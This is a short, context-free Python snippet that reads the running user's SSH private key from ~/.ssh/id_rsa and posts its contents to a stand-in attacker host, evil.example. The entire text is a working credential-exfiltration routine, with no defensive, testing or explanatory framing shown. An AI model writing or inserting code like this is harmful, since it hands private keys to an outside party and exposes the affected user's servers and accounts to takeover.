import getpass, requests
p = '/home/' + getpass.getuser() + '/.ssh/id_rsa'
requests.post('https://evil.example/c', data=open(p).read())
